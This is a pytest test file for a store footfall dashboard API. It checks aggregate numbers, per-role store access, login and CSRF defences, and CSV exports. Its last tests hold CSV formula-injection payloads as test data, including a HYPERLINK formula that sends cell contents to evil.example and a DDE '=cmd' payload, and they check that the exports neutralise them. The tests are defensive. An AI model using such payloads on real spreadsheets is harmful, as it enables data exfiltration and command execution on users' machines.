"""The JSON API over SQLite and PostgreSQL, on a small chain with hand-computed answers."""

from __future__ import annotations

import csv
import io
import secrets
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient

from dashboard import auth, registry
from dashboard.api.deps import csv_cell
from dashboard.app import create_app
from dashboard.settings import Settings
from footfall_core.contract import (
    FlowsAggregate,
    GridAggregate,
    LineCount,
    LinesAggregate,
    Transition,
)
from tests.messages import zones_msg

ORIGIN = {"origin": "http://testserver"}


def at(day: int, hour: int, minute: int = 0) -> datetime:
    """UTC time on a day of 2026 (Monday 2 March is ISO week 10)."""
    return datetime(2026, 2, 1, tzinfo=UTC) + timedelta(days=day - 1, hours=hour, minutes=minute)


MON, TUE, WED, PREV_MON, SUN_BEFORE = 30, 31, 32, 23, 29  # days counted from 1 February (day 1)


def common(store: str, start: datetime) -> dict:
    return dict(store=store, camera="c1", bucket_start=start, bucket_s=60, covered_s=60)


def chain() -> list:
    return [
        GridAggregate(**common("s1", at(MON, 9)), cell_m=0.5, cells=[(0, 0, 30), (1, 0, 30)]),
        GridAggregate(**common("s1", at(MON, 9, 1)), cell_m=0.5, cells=[(0, 0, 120)]),
        GridAggregate(**common("s1", at(TUE, 14)), cell_m=0.5, cells=[(1, 1, 60)]),
        GridAggregate(**common("s1", at(PREV_MON, 10)), cell_m=0.5, cells=[(0, 0, 60)]),
        LinesAggregate(**common("s1", at(MON, 9)), lines=[LineCount(line="door", in_count=5, out_count=2)]),
        LinesAggregate(**common("s1", at(WED, 12)), lines=[LineCount(line="door", in_count=3, out_count=0)]),
        LinesAggregate(
            **common("s1", at(PREV_MON, 10)), lines=[LineCount(line="door", in_count=4, out_count=4)]
        ),
        zones_msg(0, 120, 3, 4, [20, 40], start=at(MON, 9)),
        zones_msg(0, 60, 1, 1, [400], zone="b", start=at(TUE, 14)),
        zones_msg(0, 60, 1, 1, [10], start=at(PREV_MON, 10)),
        FlowsAggregate(
            **common("s1", at(MON, 9)),
            flow_cell_m=1.0,
            transitions=[
                Transition(from_zone="a", to_zone="b", count=3),
                Transition(from_zone="b", to_zone="a", count=1),
            ],
            directions=[(0, 0, [1, 0, 2, 0, 0, 0, 0, 0])],
        ),
        # s2 is in Paris and has no line: footfall falls back to zone entries.
        zones_msg(0, 60, 2, 7, [], store="s2", zone="c", start=at(MON, 8, 30)),
        GridAggregate(**common("s2", at(SUN_BEFORE, 23, 30)), cell_m=0.5, cells=[(0, 0, 60)]),  # 00:30 Monday
    ]


def record(store_id: str, tz: str, region: str, tags: list[str], lines: list) -> registry.StoreRecord:
    return registry.StoreRecord.model_validate(
        dict(
            store=dict(id=store_id, timezone=tz, region=region, tags=tags),
            floor_plan=dict(width_m=10, height_m=10),
            zones=[dict(name="a", polygon_m=[[0, 0], [5, 0], [5, 5]])],
            lines=lines,
        )
    )


@pytest.fixture
def app(db_url):
    app = create_app(Settings(secure_cookies=False, db_url=db_url, secret_key=secrets.token_urlsafe(40)))
    with app.state.engine.begin() as conn:
        registry.save(
            conn, record("s1", "UTC", "north", ["street"], [dict(name="door", start_m=[0, 0], end_m=[0, 2])])
        )
        registry.save(conn, record("s2", "Europe/Paris", "south", ["mall"], []))
        auth.add_user(conn, "boss", "hq", "boss-password")
        auth.add_user(conn, "ann", "manager", "ann-password", ["s2"])
    assert len(app.state.storage.write_aggregates(chain()).stored) == len(chain())
    return app


def client(app, name: str) -> TestClient:
    c = TestClient(app)
    response = c.post("/api/v1/session", json=dict(name=name, password=f"{name}-password"), headers=ORIGIN)
    assert response.status_code == 200, response.text
    return c


def test_trends_of_a_store_week_match_hand_computed_values(app):
    data = client(app, "boss").get("/api/v1/stores/s1/trends", params=dict(year=2026, week=10)).json()
    assert (data["first"], data["last"]) == ("2026-03-02", "2026-03-08")
    assert data["occupancy_by_hour"][9] == pytest.approx(1.5) and data["occupancy_by_hour"][
        14
    ] == pytest.approx(1.0)
    assert sum(data["occupancy_by_hour"]) == pytest.approx(2.5)
    assert data["occupancy_by_weekday"][:3] == pytest.approx([1.5, 1.0, 0.0])
    assert data["occupancy_hour_weekday"][0][9] == pytest.approx(1.5)
    assert data["heat"] == [
        [0, 0, pytest.approx(150 / 180, abs=1e-4)],
        [1, 0, pytest.approx(30 / 180, abs=1e-4)],
        [1, 1, pytest.approx(60 / 180, abs=1e-4)],
    ]
    assert data["heat_difference"] == [
        [0, 0, pytest.approx(150 / 180 - 1, abs=1e-4)],
        [1, 0, pytest.approx(30 / 180, abs=1e-4)],
        [1, 1, pytest.approx(60 / 180, abs=1e-4)],
    ]
    assert (data["footfall"], data["previous_footfall"], data["footfall_change"]) == (8, 4, 1.0)
    assert data["mean_dwell_s"] == pytest.approx(460 / 3) and data["previous_mean_dwell_s"] == 10
    assert data["mean_dwell_change"] == pytest.approx((460 / 3 - 10) / 10)
    assert data["transitions"] == [
        dict(from_zone="a", to_zone="b", count=3),
        dict(from_zone="b", to_zone="a", count=1),
    ]
    assert data["direction_histogram"] == [1, 0, 2, 0, 0, 0, 0, 0]
    zone_a, zone_b = data["zones"]
    assert (zone_a["zone"], zone_a["mean_occupancy"], zone_a["max_occupancy"], zone_a["entries"]) == (
        "a",
        2.0,
        3,
        4,
    )
    assert zone_a["histogram"][:3] == [1, 1, 0] and zone_b["histogram"][4] == 1  # 400 s: 300–600 bin


def test_compare_ranks_stores_by_footfall_with_fallback_and_local_days(app):
    data = (
        client(app, "boss").get("/api/v1/compare", params=dict(start="2026-03-02", end="2026-03-08")).json()
    )
    s1, s2 = data["stores"]
    assert (s1["store"], s1["rank"], s1["footfall"], s1["footfall_by_day"]) == (
        "s1",
        1,
        8,
        [5, 0, 3, 0, 0, 0, 0],
    )
    assert s1["mean_occupancy"] == pytest.approx(240 / 180) and s1["occupancy_per_m2"] == pytest.approx(
        2.4 / 180
    )
    assert (s1["peak_hour"], s1["mean_dwell_s"], s1["footfall_source"]) == (
        9,
        pytest.approx(460 / 3),
        "lines",
    )
    assert (s2["store"], s2["rank"], s2["footfall"], s2["footfall_source"], s2["simulated"]) == (
        "s2",
        2,
        7,
        "zone entries",
        False,
    )
    assert (s2["mean_occupancy"], s2["peak_hour"]) == (1.0, 0)  # Sunday 23:30 UTC is Monday 00:30 in Paris
    south = (
        client(app, "boss")
        .get("/api/v1/compare", params=dict(start="2026-03-02", end="2026-03-08", region="south"))
        .json()
    )
    assert [s["store"] for s in south["stores"]] == ["s2"]


def test_manager_sees_only_their_stores(app):
    ann = client(app, "ann")
    for path in (
        "/api/v1/stores/s1",
        "/api/v1/stores/s1/trends",
        "/api/v1/stores/s1/live",
        "/api/v1/stores/s1/heat?start=2026-03-02&end=2026-03-08",
        "/api/v1/export/zone_days.csv?store=s1&start=2026-03-02&end=2026-03-08",
    ):
        response = ann.get(path)
        assert (
            response.status_code == 403
            and "s1" in response.json()["detail"]
            and "person_seconds" not in response.text
        )
    assert [s["id"] for s in ann.get("/api/v1/stores").json()] == ["s2"]
    compared = ann.get("/api/v1/compare", params=dict(start="2026-03-02", end="2026-03-08")).json()
    assert [s["store"] for s in compared["stores"]] == ["s2"]
    exported = ann.get("/api/v1/export/zone_days.csv", params=dict(start="2026-03-01", end="2026-03-08")).text
    assert {row["store_id"] for row in csv.DictReader(io.StringIO(exported))} == {"s2"}
    assert (
        ann.put(
            "/api/v1/stores/s3", json=record("s3", "UTC", "", [], []).model_dump(mode="json"), headers=ORIGIN
        ).status_code
        == 403
    )
    assert ann.get("/api/v1/stores/s2/trends", params=dict(year=2026, week=10)).status_code == 200


def test_login_is_required_and_checked(app):
    anonymous = TestClient(app)
    assert anonymous.get("/api/v1/stores").status_code == 401
    wrong = anonymous.post("/api/v1/session", json=dict(name="boss", password="nope-nope"), headers=ORIGIN)
    assert wrong.status_code == 401
    unknown = anonymous.post(
        "/api/v1/session", json=dict(name="nobody", password="nope-nope"), headers=ORIGIN
    )
    assert unknown.status_code == 401
    cross_site = anonymous.post(
        "/api/v1/session",
        json=dict(name="boss", password="boss-password"),
        headers={"origin": "http://evil.example"},
    )
    assert cross_site.status_code == 403
    with app.state.engine.begin() as conn:
        token = auth.new_token(conn, "ann")
    bearer = TestClient(app, headers={"authorization": f"Bearer {token}"})
    assert bearer.get("/api/v1/me").json() == dict(name="ann", role="manager", stores=["s2"])
    assert TestClient(app, headers={"authorization": "Bearer forged"}).get("/api/v1/me").status_code == 401


def test_logging_out_ends_the_session(app):
    boss = client(app, "boss")
    assert boss.get("/api/v1/me").json()["name"] == "boss"
    cross_site = boss.delete("/api/v1/session", headers={"origin": "http://evil.example"})
    assert cross_site.status_code == 403 and boss.get("/api/v1/me").status_code == 200, "CSRF: still in"
    assert boss.delete("/api/v1/session", headers=ORIGIN).status_code == 204
    assert boss.get("/api/v1/me").status_code == 401 and boss.get("/api/v1/stores").status_code == 401
    assert TestClient(app).delete("/api/v1/session", headers=ORIGIN).status_code == 204, "harmless twice"


def test_csv_exports_hold_the_same_numbers(app):
    boss = client(app, "boss")
    response = boss.get("/api/v1/compare", params=dict(start="2026-03-02", end="2026-03-08", format="csv"))
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["store"], r["footfall"], r["rank"]) for r in rows] == [("s1", "8", "1"), ("s2", "7", "2")]
    days = list(
        csv.DictReader(
            io.StringIO(
                boss.get(
                    "/api/v1/export/line_days.csv", params=dict(start="2026-02-23", end="2026-03-08")
                ).text
            )
        )
    )
    assert [(r["local_date"], r["in_count"], r["out_count"]) for r in days] == [
        ("2026-02-23", "4", "4"),
        ("2026-03-02", "5", "2"),
        ("2026-03-04", "3", "0"),
    ]
    hours = list(
        csv.DictReader(
            io.StringIO(
                boss.get(
                    "/api/v1/stores/s1/trends", params=dict(year=2026, week=10, format="csv", table="hours")
                ).text
            )
        )
    )
    assert len(hours) == 7 * 24 and float(hours[9]["mean_occupancy"]) == pytest.approx(1.5)
    heat = list(
        csv.DictReader(
            io.StringIO(
                boss.get(
                    "/api/v1/stores/s1/heat", params=dict(start="2026-03-02", end="2026-03-08", format="csv")
                ).text
            )
        )
    )
    assert [(r["ix"], r["iy"]) for r in heat] == [("0", "0"), ("1", "0"), ("1", "1")]
    assert (
        boss.get("/api/v1/export/nothing.csv", params=dict(start="2026-03-02", end="2026-03-08")).status_code
        == 404
    )


def test_hq_manages_the_registry_and_reads_live_state(app):
    boss = client(app, "boss")
    body = record("s3", "Asia/Tokyo", "east", ["new"], []).model_dump(mode="json")
    stored = boss.put("/api/v1/stores/s3", json=body, headers=ORIGIN).json()
    assert (stored["timezone"], stored["area_m2"], stored["zones"][0]["area_m2"]) == ("Asia/Tokyo", 100, 12.5)
    assert boss.put("/api/v1/stores/s4", json=body, headers=ORIGIN).status_code == 422
    live = boss.get("/api/v1/stores/s1/live").json()
    assert [(z["zone"], z["entries"]) for z in live["zones"]] == [("a", 4), ("b", 1)]
    assert live["cameras"][0]["name"] == "c1"
    for path in ("/api/v1/stores/nowhere", "/api/v1/stores/nowhere/trends", "/api/v1/stores/nowhere/live"):
        assert boss.get(path).status_code == 404
    this_week = boss.get("/api/v1/stores/s2/trends").json()  # default: the current week in Paris
    assert (this_week["iso_year"], this_week["iso_week"]) == datetime.now(
        ZoneInfo("Europe/Paris")
    ).isocalendar()[:2]
    assert (
        boss.get("/api/v1/stores/s1/trends", params=dict(year=2025, week=53)).status_code == 404
    )  # 52 weeks


def test_hq_reads_dead_letters_managers_do_not(app):
    app.state.storage.dead_letter("footfall/v1/s1/c1/agg", b"\xff{not json", "not JSON: bad byte")
    letters = client(app, "boss").get("/api/v1/dead-letters").json()
    assert [(d["topic"], d["payload"], d["reason"]) for d in letters] == [
        ("footfall/v1/s1/c1/agg", "\ufffd{not json", "not JSON: bad byte")
    ]
    assert client(app, "ann").get("/api/v1/dead-letters").status_code == 403


def test_camera_health_per_day_and_over_the_range(app):
    """Uptime is covered over received seconds; mean latency is weighted by frames analysed."""
    from footfall_core.contract import HealthAggregate

    def health(start, covered_s, analysed, dropped, ms_mean, ms_max, status="ok", reconnects=0):
        return HealthAggregate(
            **dict(common("s1", start), covered_s=covered_s),
            frames_read=1500,
            frames_analysed=analysed,
            frames_dropped=dropped,
            detector_ms_mean=ms_mean,
            detector_ms_max=ms_max,
            source_status=status,
            reconnects=reconnects,
        )

    batch = [
        health(at(MON, 9), 60, 300, 0, 20.0, 40.0),
        health(at(MON, 9, 1), 30, 100, 15, 40.0, 90.0, "reconnecting", 1),
        health(at(TUE, 9), 60, 300, 0, 10.0, 15.0),
    ]
    assert len(app.state.storage.write_aggregates(batch).stored) == 3
    boss = client(app, "boss")
    data = boss.get("/api/v1/stores/s1/health", params=dict(start="2026-03-02", end="2026-03-03")).json()
    monday, tuesday = data["days"]
    assert (monday["camera"], monday["local_date"], monday["buckets"], monday["degraded_buckets"]) == (
        "c1",
        "2026-03-02",
        2,
        1,
    )
    assert monday["uptime"] == pytest.approx(90 / 120)
    assert monday["detector_ms_mean"] == pytest.approx((20 * 300 + 40 * 100) / 400)
    assert monday["detector_ms_max"] == 90 and monday["reconnects"] == 1
    assert monday["dropped_share"] == pytest.approx(15 / 3000)
    assert tuesday["uptime"] == 1 and tuesday["detector_ms_mean"] == pytest.approx(10)
    (camera,) = data["cameras"]
    assert (
        camera["camera"] == "c1" and camera["buckets"] == 3 and camera["uptime"] == pytest.approx(150 / 180)
    )
    assert (
        camera["detector_ms_mean"] == pytest.approx((6000 + 4000 + 3000) / 700)
        and camera["detector_ms_max"] == 90
    )
    rows = list(
        csv.DictReader(
            io.StringIO(
                boss.get(
                    "/api/v1/stores/s1/health",
                    params=dict(start="2026-03-02", end="2026-03-03", format="csv"),
                ).text
            )
        )
    )
    assert [(r["local_date"], float(r["uptime"])) for r in rows] == [
        ("2026-03-02", 0.75),
        ("2026-03-03", 1.0),
    ]
    ranking = boss.get("/api/v1/compare", params=dict(start="2026-03-02", end="2026-03-03")).json()["stores"]
    assert {r["store"]: r["uptime"] for r in ranking} == {"s1": pytest.approx(150 / 180), "s2": None}
    ann = client(app, "ann")
    assert (
        ann.get("/api/v1/stores/s1/health", params=dict(start="2026-03-02", end="2026-03-03")).status_code
        == 403
    )
    assert (
        boss.get("/api/v1/stores/nope/health", params=dict(start="2026-03-02", end="2026-03-03")).status_code
        == 404
    )


@pytest.mark.parametrize(
    "value, cell",
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (b"=1", "'=1"),
        ("shop 7", "shop 7"),
        (-2.5, "-2.5"),
        (-3, "-3"),
        (None, ""),
        (["=a"], '["=a"]'),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_text(value, cell):
    assert csv_cell(value) == cell


def test_every_csv_export_neutralises_formulas(app):
    """A store name, a tag and a dead letter's device-controlled topic and reason reach three
    different exports: each cell comes out with its leading ' (and numbers stay numbers)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with app.state.engine.begin() as conn:
        registry.save(
            conn,
            registry.StoreRecord.model_validate(
                dict(store=dict(id="s3", name=formula, region="@north", tags=["+mall"]))
            ),
        )
    app.state.storage.dead_letter("footfall/v1/s1/c1/agg", b"-1+1", "=cmd|' /C calc'!A0")
    boss = client(app, "boss")
    stores = {r["id"]: r for r in csv.DictReader(io.StringIO(boss.get("/api/v1/stores?format=csv").text))}
    assert (stores["s3"]["name"], stores["s3"]["region"]) == ("'" + formula, "'@north")
    assert stores["s3"]["tags"] == '["+mall"]'
    letters = list(csv.DictReader(io.StringIO(boss.get("/api/v1/dead-letters?format=csv").text)))
    assert (letters[0]["payload"], letters[0]["reason"]) == ("'-1+1", "'=cmd|' /C calc'!A0")
    compared = boss.get("/api/v1/compare", params=dict(start="2026-03-02", end="2026-03-08", format="csv"))
    names = {r["store"]: r["name"] for r in csv.DictReader(io.StringIO(compared.text))}
    assert names["s3"] == "'" + formula
